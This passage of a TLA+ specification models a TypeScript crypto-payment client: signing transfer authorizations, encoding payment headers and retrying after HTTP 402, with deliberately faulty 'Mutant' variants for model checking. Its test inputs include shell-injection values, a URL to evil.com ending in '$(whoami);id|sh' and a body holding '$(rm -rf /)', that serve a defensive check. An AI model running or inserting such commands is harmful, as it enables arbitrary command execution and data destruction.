\* String.prototype.slice(a, b) for 0 <= a <= b
Slice(s, a, b) == SubSeq(s, a + 1, IF b < Len(s) THEN b ELSE Len(s))

\* parseInt(text, 16) of two hex digits
ParseHexByte(t) == 16 * HexVal(t[1]) + HexVal(t[2])

\* What walletClient.signTypedData hands back: 65 bytes (r, s, v), and
\* texts of other lengths: 64 bytes (r and s alone), 66 bytes, none.
Sig65 == Hex0x(Rep("a", 64) \o Rep("b", 64) \o <<"1", "b">>)

Sig65v28 == Hex0x(Rep("c", 64) \o Rep("d", 64) \o <<"1", "c">>)

Sig64 == Hex0x(Rep("a", 64) \o Rep("b", 64))

Sig66 == Sig65 \o <<"0", "0">>

SigEmpty == Hex0x(<<>>)

\* The outcome of await walletClient.signTypedData(...)
SignerReturns(signature) == [kind |-> "returns", signature |-> signature, error |-> NoError]

SignerThrows(message) == [kind |-> "throws", signature |-> <<>>, error |-> JsError("Error", message)]

NoSignOut == [kind |-> "none", signature |-> <<>>, error |-> NoError]

\* The outcomes the fetchWithPayment callers meet
SignOutcomes == {SignerReturns(Sig65), SignerReturns(Sig64), SignerThrows("signer")}

\* Mutant: from is the address of the client's account
TransferParams_FromAccount(wallet, requirements, nonce) ==
    [from |-> wallet.account, to |-> requirements.recipient,
     value |-> requirements.amount, validAfter |-> requirements.validAfter,
     validBefore |-> requirements.validBefore, nonce |-> nonce]

\* TransferAuthorizationParams as signPayment builds them
TransferParams(wallet, requirements, nonce) ==
    [from |-> wallet.address, to |-> requirements.recipient,
     value |-> requirements.amount, validAfter |-> requirements.validAfter,
     validBefore |-> requirements.validBefore, nonce |-> nonce]

NoSigned ==
    [from |-> "", to |-> "", value |-> Big(0, 0), validAfter |-> 0, validBefore |-> 0,
     nonce |-> "", signature |-> <<>>, v |-> -1, r |-> <<>>, s |-> <<>>]

\* What a call of the signing step comes to: the authorization, or the error
\* thrown with its cause; signerCalls counts the calls of signTypedData.
SignOk(signed) ==
    [ok |-> TRUE, signed |-> signed, error |-> NoError, cause |-> NoError, signerCalls |-> 1]

SignFail(error, cause, signerCalls) ==
    [ok |-> FALSE, signed |-> NoSigned, error |-> error, cause |-> cause, signerCalls |-> signerCalls]

\* Mutant: the signature is taken apart whatever its length
signTransferAuthorization_NoLengthCheck(account, params, out) ==
    IF account = NoAccount
    THEN SignFail(JsError("Error", "no_account"), NoError, 0)
    ELSE IF AddrLower(params.from) # AddrLower(account)
    THEN SignFail(JsError("Error", "from_mismatch"), NoError, 0)
    ELSE IF out.kind = "throws"
    THEN SignFail(out.error, NoError, 1)
    ELSE SignOk([from |-> params.from, to |-> params.to, value |-> params.value,
                 validAfter |-> params.validAfter, validBefore |-> params.validBefore,
                 nonce |-> params.nonce, signature |-> out.signature,
                 v |-> IF Len(out.signature) >= 132
                       THEN ParseHexByte(Slice(out.signature, 130, 132)) ELSE 0,
                 r |-> Hex0x(Slice(out.signature, 2, 66)),
                 s |-> Hex0x(Slice(out.signature, 66, 130))])

\* signTransferAuthorization(walletClient, params) when signTypedData comes
\* to out
signTransferAuthorization(account, params, out) ==
    IF account = NoAccount
    THEN SignFail(JsError("Error", "no_account"), NoError, 0)
    ELSE IF AddrLower(params.from) # AddrLower(account)
    THEN SignFail(JsError("Error", "from_mismatch"), NoError, 0)
    ELSE IF out.kind = "throws"
    THEN SignFail(out.error, NoError, 1)
    ELSE IF Len(out.signature) # 132
    THEN SignFail(JsError("Error", "signature_length"), NoError, 1)
    ELSE SignOk([from |-> params.from, to |-> params.to, value |-> params.value,
                 validAfter |-> params.validAfter, validBefore |-> params.validBefore,
                 nonce |-> params.nonce, signature |-> out.signature,
                 v |-> ParseHexByte(Slice(out.signature, 130, 132)),
                 r |-> Hex0x(Slice(out.signature, 2, 66)),
                 s |-> Hex0x(Slice(out.signature, 66, 130))])

\* signPayment(wallet, requirements) with the nonce generateNonce() drew,
\* when signTypedData comes to out: the mismatch is thrown as it is, every
\* throw of the try block is wrapped with the thrown error as cause.
signPayment(wallet, requirements, nonce, out) ==
    IF RequirementsMismatch(requirements)
    THEN SignFail(JsError("PaymentRequiredError", "mismatch"), NoError, 0)
    ELSE LET r == signTransferAuthorization(wallet.account,
                      TransferParams(wallet, requirements, nonce), out)
         IN  IF r.ok THEN r
             ELSE SignFail(JsError("PaymentSigningError", r.error.message), r.error,
                           r.signerCalls)

-----------------------------------------------------------------------------
(* payment.ts: encodePaymentHeader, and the arithmetic and texts it needs *)

HalfLimb == 32768

\* b / d and b % d of a two-limb integer by a divisor below 2^15, limb half
\* by limb half so that no intermediate leaves the machine word
DivSmall(b, d) ==
    LET t2 == (b.h % d) * HalfLimb + (b.v \div HalfLimb)
        t1 == (t2 % d) * HalfLimb + (b.v % HalfLimb)
    IN  [q |-> Big(b.h \div d, (t2 \div d) * HalfLimb + (t1 \div d)), r |-> t1 % d]

\* b * 10 + digit of a two-limb integer
MulAdd10(b, digit) ==
    LET t0 == (b.v % HalfLimb) * 10 + digit
        t1 == (b.v \div HalfLimb) * 10 + (t0 \div HalfLimb)
    IN  Big(b.h * 10 + (t1 \div HalfLimb), (t1 % HalfLimb) * HalfLimb + (t0 % HalfLimb))

DecDigits == <<"0", "1", "2", "3", "4", "5", "6", "7", "8", "9">>

\* BigInt.prototype.toString(): the decimal digits, most significant first
RECURSIVE ToDecimal(_)
ToDecimal(b) ==
    IF b.h = 0 /\ b.v < 10
    THEN <<DecDigits[b.v + 1]>>
    ELSE ToDecimal(DivSmall(b, 10).q) \o <<DecDigits[DivSmall(b, 10).r + 1]>>

\* BigInt(text) of a text of decimal digits
RECURSIVE FromDecimal(_)
FromDecimal(digits) ==
    IF digits = <<>> THEN Big(0, 0)
    ELSE MulAdd10(FromDecimal(SubSeq(digits, 1, Len(digits) - 1)),
                  (CHOOSE i \in 1..10 : DecDigits[i] = digits[Len(digits)]) - 1)

\* The characters of the texts of the model that are kept as one value
Chars(text) ==
    CASE text = "signature"   -> <<"s", "i", "g", "n", "a", "t", "u", "r", "e">>
      [] text = "from"        -> <<"f", "r", "o", "m">>
      [] text = "to"          -> <<"t", "o">>
      [] text = "value"       -> <<"v", "a", "l", "u", "e">>
      [] text = "validAfter"  -> <<"v", "a", "l", "i", "d", "A", "f", "t", "e", "r">>
      [] text = "validBefore" -> <<"v", "a", "l", "i", "d", "B", "e", "f", "o", "r", "e">>
      [] text = "nonce"       -> <<"n", "o", "n", "c", "e">>
      [] text = "0xWALLET"    -> <<"0", "x", "W", "A", "L", "L", "E", "T">>
      [] text = "0xRecipient" -> <<"0", "x", "R", "e", "c", "i", "p", "i", "e", "n", "t">>
      [] text = "0xnonce1"    -> <<"0", "x", "n", "o", "n", "c", "e", "1">>
      [] text = "0xnonce2"    -> <<"0", "x", "n", "o", "n", "c", "e", "2">>
      [] text = "0xnonce3"    -> <<"0", "x", "n", "o", "n", "c", "e", "3">>
      [] OTHER                -> <<"?">>

\* The printable ASCII characters in code order, from the space (32) on
Ascii ==
    <<" ", "!", "\"", "#", "$", "%", "&", "'", "(", ")", "*", "+", ",", "-", ".", "/",
      "0", "1", "2", "3", "4", "5", "6", "7", "8", "9", ":", ";", "<", "=", ">", "?",
      "@", "A", "B", "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M", "N", "O",
      "P", "Q", "R", "S", "T", "U", "V", "W", "X", "Y", "Z", "[", "\\", "]", "^", "_",
      "GRAVE", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n", "o",
      "p", "q", "r", "s", "t", "u", "v", "w", "x", "y", "z", "{", "|", "}", "~">>

\* Buffer.from(text): the bytes of a text of ASCII characters
Bytes(text) == [i \in 1..Len(text) |-> 31 + (CHOOSE k \in 1..95 : Ascii[k] = text[i])]

\* buffer.toString('utf-8') of bytes that are ASCII codes
Utf8(bytes) == [i \in 1..Len(bytes) |-> Ascii[bytes[i] - 31]]

Base64Alphabet ==
    <<"A", "B", "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M", "N", "O", "P",
      "Q", "R", "S", "T", "U", "V", "W", "X", "Y", "Z", "a", "b", "c", "d", "e", "f",
      "g", "h", "i", "j", "k", "l", "m", "n", "o", "p", "q", "r", "s", "t", "u", "v",
      "w", "x", "y", "z", "0", "1", "2", "3", "4", "5", "6", "7", "8", "9", "+", "/">>

ByteAt(bytes, i) == IF i <= Len(bytes) THEN bytes[i] ELSE 0

\* buffer.toString('base64'): three bytes to four symbols, = for the bytes
\* the last group lacks
Base64(bytes) ==
    [k \in 1..(4 * ((Len(bytes) + 2) \div 3)) |->
       LET g  == 3 * ((k - 1) \div 4)
           b0 == ByteAt(bytes, g + 1)
           b1 == ByteAt(bytes, g + 2)
           b2 == ByteAt(bytes, g + 3)
       IN  CASE (k - 1) % 4 = 0 -> Base64Alphabet[(b0 \div 4) + 1]
             [] (k - 1) % 4 = 1 -> Base64Alphabet[(b0 % 4) * 16 + (b1 \div 16) + 1]
             [] (k - 1) % 4 = 2 -> IF g + 2 > Len(bytes) THEN "="
                                   ELSE Base64Alphabet[(b1 % 16) * 4 + (b2 \div 64) + 1]
             [] OTHER           -> IF g + 3 > Len(bytes) THEN "="
                                   ELSE Base64Alphabet[(b2 % 64) + 1]]

SextetAt(token, i) ==
    IF token[i] = "=" THEN 0 ELSE (CHOOSE k \in 1..64 : Base64Alphabet[k] = token[i]) - 1

\* Buffer.from(token, 'base64') of a padded token
Base64Decode(token) ==
    LET pad == Cardinality({i \in 1..Len(token) : token[i] = "="}) IN
    [i \in 1..(3 * (Len(token) \div 4) - pad) |->
       LET g  == 4 * ((i - 1) \div 3)
           s0 == SextetAt(token, g + 1)
           s1 == SextetAt(token, g + 2)
           s2 == SextetAt(token, g + 3)
           s3 == SextetAt(token, g + 4)
       IN  CASE (i - 1) % 3 = 0 -> s0 * 4 + (s1 \div 16)
             [] (i - 1) % 3 = 1 -> (s1 % 16) * 16 + (s2 \div 4)
             [] OTHER           -> (s2 % 4) * 64 + s3]

Quoted(text) == <<"\"">> \o text \o <<"\"">>

\* JSON.stringify of an object whose seven members are texts without
\* characters to escape: the members in insertion order
JsonStringify(members) ==
    LET m(i) == Quoted(members[i][1]) \o <<":">> \o Quoted(members[i][2]) IN
    <<"{">> \o m(1) \o <<",">> \o m(2) \o <<",">> \o m(3) \o <<",">> \o m(4)
            \o <<",">> \o m(5) \o <<",">> \o m(6) \o <<",">> \o m(7) \o <<"}">>

\* The position of the k-th quotation mark of a text
QuoteAt(text, k) ==
    LET quotes == {i \in 1..Len(text) : text[i] = "\""} IN
    CHOOSE i \in quotes : Cardinality({j \in quotes : j < i}) = k - 1

\* JSON.parse of the text of an object whose members are texts without
\* escapes: the members in the order of the text
JsonParse(text) ==
    LET n == Cardinality({i \in 1..Len(text) : text[i] = "\""}) \div 4 IN
    [i \in 1..n |->
       << SubSeq(text, QuoteAt(text, 4 * i - 3) + 1, QuoteAt(text, 4 * i - 2) - 1),
          SubSeq(text, QuoteAt(text, 4 * i - 1) + 1, QuoteAt(text, 4 * i) - 1) >>]

\* Mutant: the amount goes through a double before it is rendered
PaymentPayload_ValueAsNumber(signed) ==
    << <<Chars("signature"), signed.signature>>,
       <<Chars("from"), Chars(signed.from)>>,
       <<Chars("to"), Chars(signed.to)>>,
       <<Chars("value"), ToDecimal(BigInt(ToDouble(JBigNum(signed.value.h, signed.value.v))))>>,
       <<Chars("validAfter"), ToDecimal(Big(0, signed.validAfter))>>,
       <<Chars("validBefore"), ToDecimal(Big(0, signed.validBefore))>>,
       <<Chars("nonce"), Chars(signed.nonce)>> >>

\* const payload: PaymentPayload of encodePaymentHeader
PaymentPayload(signed) ==
    << <<Chars("signature"), signed.signature>>,
       <<Chars("from"), Chars(signed.from)>>,
       <<Chars("to"), Chars(signed.to)>>,
       <<Chars("value"), ToDecimal(signed.value)>>,
       <<Chars("validAfter"), ToDecimal(Big(0, signed.validAfter))>>,
       <<Chars("validBefore"), ToDecimal(Big(0, signed.validBefore))>>,
       <<Chars("nonce"), Chars(signed.nonce)>> >>

\* encodePaymentHeader(signed)
encodePaymentHeader(signed) == Base64(Bytes(JsonStringify(PaymentPayload(signed))))

\* JSON.parse(Buffer.from(token, 'base64').toString('utf-8'))
DecodePaymentHeader(token) == JsonParse(Utf8(Base64Decode(token)))

-----------------------------------------------------------------------------
(* payment.ts: formatUsdcAmount *)

\* String.prototype.padStart(n, ch)
PadStart(text, n, ch) == IF Len(text) >= n THEN text ELSE Rep(ch, n - Len(text)) \o text

\* atomic / 1_000_000n and atomic % 1_000_000n, in two divisions by 1000
DivMillion(b) ==
    LET d1 == DivSmall(b, 1000)
        d2 == DivSmall(d1.q, 1000)
    IN  [q |-> d2.q, r |-> d2.r * 1000 + d1.r]

\* Mutant: the amount is rendered from Number(atomic)
formatUsdcAmount_ViaNumber(atomic) ==
    LET n == BigInt(ToDouble(JBigNum(atomic.h, atomic.v))) IN
    <<"$">> \o ToDecimal(DivMillion(n).q) \o <<".">>
           \o PadStart(ToDecimal(Big(0, DivMillion(n).r)), 6, "0")
           \o <<" ", "U", "S", "D", "C">>

\* formatUsdcAmount(atomic)
formatUsdcAmount(atomic) ==
    LET whole       == DivMillion(atomic).q
        fraction    == DivMillion(atomic).r
        fractionStr == PadStart(ToDecimal(Big(0, fraction)), 6, "0")
    IN  <<"$">> \o ToDecimal(whole) \o <<".">> \o fractionStr \o <<" ", "U", "S", "D", "C">>

-----------------------------------------------------------------------------
(* Inputs of the signing step *)

\* Wallets handed to signPayment: the one createWallet builds, one whose
\* account address is spelled in lower case, one whose client signs for
\* another account, one whose client has no account
SignWallets ==
    { NullpathWallet(WalletAddress, WalletAddress),
      NullpathWallet(WalletAddress, "0xwallet"),
      NullpathWallet(WalletAddress, "0xOTHER"),
      NullpathWallet(WalletAddress, NoAccount) }

\* Requirements handed to signPayment
SignRequirements ==
    { [recipient |-> "0xRecipient", amount |-> a, asset |-> asset, network |-> n,
       validAfter |-> va, validBefore |-> 100400] :
        a \in {Big(0, 1000), Big(0, 1000000), Big(TwoTo23, 1)},
        va \in {0, 99000},
        asset \in {USDC_ADDRESS_BASE, "0x833589FCD6EDB6E08F4C7C32D4F71B54BDA02913",
                   "0xOtherToken"},
        n \in {EXPECTED_NETWORK, 1} }

\* Everything signTypedData may come to
SignerOutcomes ==
    { SignerReturns(Sig65), SignerReturns(Sig65v28), SignerReturns(Sig64),
      SignerReturns(Sig66), SignerReturns(SigEmpty), SignerThrows("signer") }

-----------------------------------------------------------------------------
(* payment.ts: fetchWithPayment, one invocation per caller at a time *)

\* Mutant: a generator that hands out the same bytes every time
NonceName_Repeats(i) == "0xnonce0"

\* generateNonce(): 32 random bytes; the i-th draw of the run
NonceName(i) == "0xnonce" \o <<"0", "1", "2", "3", "4", "5", "6", "7", "8", "9">>[(i % 10) + 1]

\* The X-PAYMENT header value in the requests of the model: the token
\* encodePaymentHeader(signed) named by the nonce of the authorization (one
\* token per authorization).
HeaderText(signed) == "b64:" \o signed.nonce

DefaultContentType == <<"Content-Type", "application/json">>

NoResult ==
    [kind |-> "none", status |-> 0, error |-> "", detail |-> "", via |-> "",
     text |-> "", requirements |-> NoRequirements, cause |-> NoError]

\* A Response handed back to the caller: the first response, the retry
\* response, or the one synthesized from awal's result.
Returned(status, via) ==
    [NoResult EXCEPT !.kind = "response", !.status = status, !.via = via]

\* An error thrown to the caller: its class, what it reports, and the status
\* of the response it was raised for (0 when there is none).
Thrown(error, detail, status) ==
    [NoResult EXCEPT !.kind = "error", !.status = status, !.error = error,
                     !.detail = detail]

\* Response.ok
Ok(status) == status >= 200 /\ status <= 299

Idle ==
    [pc |-> "idle", url |-> "", options |-> [method |-> Undefined, body |-> Undefined, headers |-> <<>>],
     cfg |-> "", reqs |-> <<>>, resps |-> <<>>, execs |-> <<>>, payload |-> NoPayload,
     requirements |-> NoRequirements, parses |-> 0, wallets |-> 0, signs |-> 0,
     nonce |-> "", signOut |-> NoSignOut, signed |-> NoSigned, fromCache |-> FALSE, awalStatus |-> NoStatus, paid |-> NoPayResult,
     retryBody |-> "",
     result |-> NoResult]

\* Inputs of the callers: the shape the tool handlers use (POST with a JSON
\* body, no headers), and a call with its own headers and with shell
\* metacharacters in url, body and header value.
CallInputs ==
    { [url |-> "https://nullpath.com/api/v1/execute",
       options |-> [method |-> "POST", body |-> "{\"input\":1}", headers |-> <<>>]],
      [url |-> "https://evil.com/$(whoami);id|sh",
       options |-> [method |-> "POST", body |-> "{\"cmd\":\"$(rm -rf /)\"}",
                    headers |-> << <<"Content-Type", "text/plain">>,
                                   <<"X-Custom", "a;b|c">> >>]] }

StartS == StartTime \div 1000

\* 402 responses the server may send
Payloads ==
    { Payload("X-PAYMENT-REQUIRED", TRUE, "0xRecipient", "", JStr(1000), JAbsent,
              "", "", JAbsent, JAbsent, JAbsent, JAbsent),
      Payload("X-PAYMENT-REQUIRED", TRUE, "", "0xPayee", JAbsent, JNum(250000),
              "0x833589FCD6EDB6E08F4C7C32D4F71B54BDA02913", "", JNum(8453), JAbsent,
              JNum(StartS), JNum(StartS + 60)),
      Payload("X-PAYMENT-REQUIRED", TRUE, "0xRecipient", "", JStr(1000), JAbsent,
              "", "", JAbsent, JAbsent, JAbsent, JNum(StartS)),
      Payload("X-PAYMENT-REQUIRED", TRUE, "0xRecipient", "", JStr(1000), JAbsent,
              "", "", JAbsent, JAbsent, JAbsent, JNum(0)),
      Payload("X-PAYMENT-REQUIRED", TRUE, "0xRecipient", "", JStr(1000), JAbsent,
              "", "", JNum(1), JAbsent, JAbsent, JAbsent),
      Payload("X-PAYMENT-REQUIRED", TRUE, "0xRecipient", "", JStr(1000), JAbsent,
              "", "0xOtherToken", JAbsent, JNum(8453), JAbsent, JAbsent),
      Payload("X-PAYMENT-REQUIRED", TRUE, "0xRecipient", "", JAbsent, JAbsent,
              "", "", JAbsent, JAbsent, JAbsent, JAbsent),
      Payload("X-PAYMENT-REQUIRED", FALSE, "", "", JAbsent, JAbsent,
              "", "", JAbsent, JAbsent, JAbsent, JAbsent),
      NoPayload }

\* Statuses the server may answer with, to the initial request and to the
\* retry
FirstStatuses == {200, 402, 404, 500}
RetryStatuses == {200, 201, 402, 404, 500}

\* Body text of the retry response, as retryResponse.text().catch(() => '')
\* yields it
RetryBodies == {"", "insufficient funds"}

\* Mutant: every response that is not a success is taken for a payment
\* request
PaymentRequired_NotOk(status) == status < 200 \/ status > 299

\* if (response.status !== 402) return response;
PaymentRequired(status) == status = 402

\* Mutant: the check for 'none' is missing
Dispatch_NoNoneCheck(method) ==
    IF method = "awal" THEN "handleAwalPayment" ELSE "handleDirectPayment"

\* fetchWithPayment's choice of what to do with a 402, by
\* paymentConfig.method
Dispatch(method) ==
    IF method = "none" THEN "WalletNotConfiguredError"
    ELSE IF method = "awal" THEN "handleAwalPayment"
    ELSE "handleDirectPayment"

\* fetchWithPayment after getPaymentConfig() has returned: build the initial
\* headers and issue the initial request.
InitialFetch(c, awalStatus) ==
    [c EXCEPT !.awalStatus = awalStatus,
              !.cfg = getPaymentConfig(env, awalStatus).method,
              !.reqs = <<Request(c.url, c.options,
                                 buildHeaders(c.options.headers, <<DefaultContentType>>))>>,
              !.pc = "fetch1"]

\* fetchWithPayment(url, options) up to its first suspension, when
\* checkAwalStatus answers from the cache.
StartCached(p) ==
    /\ call[p].pc \in {"idle", "done", "failed"}
    /\ calls < MaxCalls
    /\ CacheFresh(awalStatusCache, awalStatusCacheTime, now)
    /\ \E inp \in CallInputs :
         call' = [call EXCEPT ![p] =
                    InitialFetch([Idle EXCEPT !.url = inp.url, !.options = inp.options,
                                              !.fromCache = TRUE],
                                 awalStatusCache)]
    /\ calls' = calls + 1
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, ticks, nonces,
                   probeLog, check, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

\* fetchWithPayment(url, options) up to its first suspension, when
\* checkAwalStatus has to spawn the status probe.
StartProbe(p) ==
    /\ call[p].pc \in {"idle", "done", "failed"}
    /\ calls < MaxCalls
    /\ ~CacheFresh(awalStatusCache, awalStatusCacheTime, now)
    /\ \E inp \in CallInputs :
         call' = [call EXCEPT ![p] =
                    [Idle EXCEPT !.url = inp.url, !.options = inp.options,
                                 !.execs = <<AwalStatusExec>>, !.pc = "probing"]]
    /\ calls' = calls + 1
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, ticks, nonces,
                   probeLog, check, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

Checkers == {"c1", "c2"}

\* The cache is assigned or emptied by someone else: no caller of Checkers
\* is the one whose status it holds
Overwritten(ck) == [q \in Checkers |-> [ck[q] EXCEPT !.wrote = ""]]

\* The status probe ends: checkAwalStatus stores and returns the status,
\* getPaymentConfig picks the backend, the initial request goes out.
ProbeReturn(p) ==
    /\ call[p].pc = "probing"
    /\ \E out \in ProbeOutcomes :
         LET r == ProbeResult(out) IN
         IF r.threw
         THEN /\ call' = [call EXCEPT ![p].pc = "failed",
                                      ![p].result = Thrown("Error", "probe", 0)]
              /\ UNCHANGED <<awalStatusCache, awalStatusCacheTime, probeLog, check>>
         ELSE /\ awalStatusCache' = r.status
              /\ awalStatusCacheTime' = now
              /\ probeLog' = [doneAt |-> now, cleared |-> FALSE]
              /\ check' = Overwritten(check)
              /\ call' = [call EXCEPT ![p] =
                            InitialFetch(call[p], r.status)]
    /\ UNCHANGED <<env, now, calls, ticks, nonces, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>


-----------------------------------------------------------------------------
(* awal.ts: awalPay's reading of the outcome of the pay invocation *)

\* handleAwalPayment: the plain header object handed to awalPay
AwalHeaders(entries) ==
    IF \E i \in 1..Len(entries) :
          entries[i][1] \in {"Content-Type", "content-type"} /\ entries[i][2] # ""
    THEN entries
    ELSE Append(entries, DefaultContentType)

\* handleAwalPayment: the options handed to awalPay
AwalOptions(options) ==
    [method |-> IF options.method \in {Undefined, ""} THEN "GET" ELSE options.method,
     body |-> options.body,
     headers |-> AwalHeaders(options.headers)]


-----------------------------------------------------------------------------
(* payment.ts: fetchWithPayment once the initial response is in *)

\* The initial response is not a 402: it is returned as it is
FirstNot402(p) ==
    /\ call[p].pc = "fetch1"
    /\ \E status \in FirstStatuses :
         /\ ~PaymentRequired(status)
         /\ call' = [call EXCEPT ![p].pc = "done", ![p].resps = <<status>>,
                                 ![p].result = Returned(status, "first")]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, calls, ticks,
                   nonces, probeLog, check, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

\* 402 and paymentConfig.method === 'none': throw WalletNotConfiguredError
First402None(p) ==
    /\ call[p].pc = "fetch1"
    /\ Dispatch(call[p].cfg) = "WalletNotConfiguredError"
    /\ \E status \in FirstStatuses :
         /\ PaymentRequired(status)
         /\ call' = [call EXCEPT ![p].pc = "failed", ![p].resps = <<status>>,
                                 ![p].result = Thrown("WalletNotConfiguredError", "", status)]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, calls, ticks,
                   nonces, probeLog, check, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

\* 402 and paymentConfig.method === 'awal': handleAwalPayment up to the
\* await of awalPay's execFile
First402Awal(p) ==
    /\ call[p].pc = "fetch1"
    /\ Dispatch(call[p].cfg) = "handleAwalPayment"
    /\ \E status \in FirstStatuses :
         /\ PaymentRequired(status)
         /\ call' = [call EXCEPT ![p].pc = "paying", ![p].resps = <<status>>,
                                 ![p].execs = Append(@, AwalPayExec(call[p].url,
                                                        AwalOptions(call[p].options)))]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, calls, ticks,
                   nonces, probeLog, check, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

\* handleDirectPayment's catch around createWallet(): InvalidPrivateKeyError
\* is wrapped in PaymentSigningError, anything else is thrown on as it is
WalletFailure(error, status) ==
    IF error.class = "InvalidPrivateKeyError"
    THEN [Thrown("PaymentSigningError", "invalid_wallet", status) EXCEPT !.cause = error]
    ELSE Thrown(error.class, error.message, status)

\* Mutant: the wallet is built before the requirements are parsed
DirectPayment_WalletFirst(c, h, nowS, n) ==
    LET parsed == parsePaymentRequired(Response(c.resps[1], h), nowS)
        wallet == createWallet(env)
        c1     == [c EXCEPT !.wallets = @ + 1]
        c2     == [c1 EXCEPT !.payload = h, !.parses = @ + 1]
    IN  IF ~wallet.ok
        THEN [c1 EXCEPT !.pc = "failed",
                        !.result = WalletFailure(wallet.error, c.resps[1])]
        ELSE IF ~parsed.ok
        THEN [c2 EXCEPT !.pc = "failed",
                        !.result = Thrown("PaymentRequiredError", parsed.error, c.resps[1])]
        ELSE IF RequirementsMismatch(parsed.req)
        THEN [c2 EXCEPT !.requirements = parsed.req, !.pc = "failed",
                        !.result = Thrown("PaymentRequiredError", "mismatch", c.resps[1])]
        ELSE [c2 EXCEPT !.requirements = parsed.req, !.nonce = NonceName(n + 1),
                        !.signs = @ + 1, !.pc = "signing"]

\* handleDirectPayment up to the await of signTypedData, for the 402
\* response carrying h, at second nowS, with n nonces drawn before.
DirectPayment(c, h, nowS, n) ==
    LET parsed == parsePaymentRequired(Response(c.resps[1], h), nowS)
        c1     == [c EXCEPT !.payload = h, !.parses = @ + 1]
        wallet == createWallet(env)
        c2     == [c1 EXCEPT !.requirements = parsed.req, !.wallets = @ + 1]
    IN  IF ~parsed.ok
        THEN [c1 EXCEPT !.pc = "failed",
                        !.result = Thrown("PaymentRequiredError", parsed.error, c.resps[1])]
        ELSE IF ~wallet.ok
        THEN [c2 EXCEPT !.pc = "failed",
                        !.result = WalletFailure(wallet.error, c.resps[1])]
        ELSE IF RequirementsMismatch(parsed.req)
        THEN [c2 EXCEPT !.pc = "failed",
                        !.result = Thrown("PaymentRequiredError", "mismatch", c.resps[1])]
        ELSE [c2 EXCEPT !.nonce = NonceName(n + 1), !.signs = @ + 1,
                        !.pc = "signing"]

\* 402 and paymentConfig.method === 'direct'
First402Direct(p) ==
    /\ call[p].pc = "fetch1"
    /\ Dispatch(call[p].cfg) = "handleDirectPayment"
    /\ \E status \in FirstStatuses, h \in Payloads :
         LET c == DirectPayment([call[p] EXCEPT !.resps = <<status>>], h,
                                now \div 1000, nonces) IN
         /\ PaymentRequired(status)
         /\ call' = [call EXCEPT ![p] = c]
         /\ nonces' = IF c.nonce # "" THEN nonces + 1 ELSE nonces
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, calls, ticks,
                   probeLog, check, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

\* Mutant: the retry goes out with the headers of the initial request
RetryHeaders_NoPayment(c) ==
    buildHeaders(c.options.headers, <<DefaultContentType>>)

\* Headers of the retry: the caller's, then Content-Type and X-PAYMENT set
RetryHeaders(c) ==
    buildHeaders(c.options.headers,
                 <<DefaultContentType,
                   <<"X-PAYMENT", HeaderText(c.signed)>> >>)

\* handleDirectPayment after signTypedData: the length check of
\* signTransferAuthorization, signPayment's wrapping of every throw, the
\* encoding, and the retry request.
AfterSign(c, out) ==
    LET r  == signPayment(createWallet(env).wallet, c.requirements, c.nonce, out)
        c1 == [c EXCEPT !.signOut = out, !.signed = r.signed]
    IN  IF r.ok
        THEN [c1 EXCEPT !.reqs = Append(@, Request(c.url, c.options, RetryHeaders(c1))),
                        !.pc = "fetch2"]
        ELSE [c1 EXCEPT !.pc = "failed",
                       !.result = [Thrown(r.error.class, r.error.message, c.resps[1])
                                   EXCEPT !.cause = r.cause]]

SignReturn(p) ==
    /\ call[p].pc = "signing"
    /\ \E out \in SignOutcomes :
         call' = [call EXCEPT ![p] = AfterSign(call[p], out)]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, calls, ticks,
                   nonces, probeLog, check, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

\* Mutant: a retry answered 402 is sent again
AfterRetry_RetryAgain(c, status, errorBody) ==
    IF status = 402
    THEN [c EXCEPT !.resps = Append(@, status),
                   !.reqs = Append(@, c.reqs[Len(c.reqs)])]
    ELSE IF ~Ok(status)
    THEN [c EXCEPT !.pc = "failed", !.resps = Append(@, status),
                   !.result = Thrown("Error", "request_failed", status)]
    ELSE [c EXCEPT !.pc = "done", !.resps = Append(@, status),
                   !.result = Returned(status, "retry")]

\* Mutant: only a 402 is an error, every other retry response is returned
AfterRetry_Only402(c, status, errorBody) ==
    IF status = 402
    THEN [c EXCEPT !.pc = "failed", !.resps = Append(@, status),
                   !.retryBody = errorBody,
                   !.result = [Thrown("PaymentRequiredError", "rejected", status)
                                 EXCEPT !.text = "Payment was rejected by the server",
                                        !.requirements = c.requirements]]
    ELSE [c EXCEPT !.pc = "done", !.resps = Append(@, status),
                   !.retryBody = errorBody,
                   !.result = Returned(status, "retry")]

\* handleDirectPayment's classification of the retry response; text is the
\* part of the message that comes from the body.
AfterRetry(c, status, errorBody) ==
    IF status = 402
    THEN [c EXCEPT !.pc = "failed", !.resps = Append(@, status),
                   !.retryBody = errorBody,
                   !.result = [Thrown("PaymentRequiredError", "rejected", status)
                                 EXCEPT !.text = IF errorBody # "" THEN errorBody
                                                 ELSE "no details",
                                        !.requirements = c.requirements]]
    ELSE IF ~Ok(status)
    THEN [c EXCEPT !.pc = "failed", !.resps = Append(@, status),
                   !.retryBody = errorBody,
                   !.result = [Thrown("Error", "request_failed", status)
                                 EXCEPT !.text = errorBody]]
    ELSE [c EXCEPT !.pc = "done", !.resps = Append(@, status),
                   !.retryBody = errorBody,
                   !.result = Returned(status, "retry")]

RetryResponse(p) ==
    /\ call[p].pc = "fetch2"
    /\ \E status \in RetryStatuses, errorBody \in RetryBodies :
         call' = [call EXCEPT ![p] = AfterRetry(call[p], status, errorBody)]
